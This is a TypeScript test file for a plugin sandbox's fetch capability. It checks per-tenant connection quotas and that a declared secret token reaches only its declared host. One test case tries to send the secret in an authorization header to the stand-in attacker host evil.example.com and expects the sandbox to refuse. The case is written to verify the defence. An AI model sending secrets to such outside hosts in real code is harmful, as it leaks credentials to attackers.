import t from 'tap';
import { testManifest } from '../../../test/support/manifest.ts';
import { provenance, tenantA, tenantB } from '../../../test/support/messaging.ts';
import type { PluginSecrets } from '../plugin-secrets.ts';
import type { PluginCall } from '../call.ts';
import { grantsOf } from '../capabilities.ts';
import type { Egress } from '../egress.ts';
import { limitsFor, type PluginVersion } from '../installed-plugin.ts';
import { fetchCalls } from './fetch.ts';

const manifest = testManifest({ id: 'notes', limits: { connections: 2 }, secrets: { token: { title: 'Token', hosts: ['api.example.com'] } } });
const version: PluginVersion = { manifest, trust: 'third-party', runtime: 'sandboxed', limits: limitsFor(manifest, 'third-party'), operatorGrants: [], prefixes: [] };

async function* body(): AsyncGenerator<Uint8Array> {
  yield new Uint8Array(1);
}

/** The far end of the seam: what would leave the host. */
function farEnd(fails = false) {
  const sent: Record<string, string>[] = [];
  const egress: Egress = {
    async fetch(request) {
      sent.push(await request.headersFor(request.url));
      if (fails) throw new Error('no route to host');
      return { status: 200, headers: {}, body: body(), cancel: async () => undefined };
    },
    close: async () => undefined,
  };
  return { sent, open: fetchCalls({ egress, secrets: { get: async () => 's3cret' } as unknown as PluginSecrets })['fetch.open'] };
}

const callOf = (tenantId: string): PluginCall =>
  ({ id: 'c', version, tenantId, principal: provenance().principal, identity: null, provenance: provenance(tenantId), grants: grantsOf(['net:public'], null), deadline: Date.now() + 10_000, signal: new AbortController().signal, requestId: null, jobId: null, transaction: null, streams: new Map(), nextStream: 1, spent: { hostCalls: 0, bytes: 0 } }) as PluginCall;

const init = { bodyBase64: null };

t.test('open replies are limited per tenant and plugin, and given back when they are closed or fail', async (t) => {
  const { open } = farEnd();
  const call = callOf(tenantA);
  await open(call, ['https://example.com/', init]);
  await open(call, ['https://example.com/', init]);
  await t.rejects(open(callOf(tenantA), ['https://example.com/', init]), { code: 'QUOTA_EXCEEDED', details: { quota: 'connections', limit: 2 } });
  await open(callOf(tenantB), ['https://example.com/', init]);
  await [...call.streams.values()][0]?.close();
  await open(callOf(tenantA), ['https://example.com/', init]);

  const failing = farEnd(true);
  for (let i = 0; i < 5; i++) await t.rejects(failing.open(callOf(tenantA), ['https://example.com/', init]), /no route/);
});

t.test('a secret goes to the hosts it was declared for, and to no other', async (t) => {
  const { open, sent } = farEnd();
  const headers = { authorization: 'Bearer {{secret:token}}' };
  await t.rejects(open(callOf(tenantA), ['https://evil.example.com/', { ...init, headers }]), { code: 'FORBIDDEN', details: { capability: 'secret token for evil.example.com' } });
  await t.rejects(open(callOf(tenantA), ['https://api.example.com/', { ...init, headers: { authorization: '{{secret:other}}' } }]), { code: 'FORBIDDEN' });
  t.strictSame(sent, []);
  await open(callOf(tenantA), ['https://api.example.com/', { ...init, headers }]);
  t.strictSame(sent, [{ authorization: 'Bearer s3cret' }]);
});
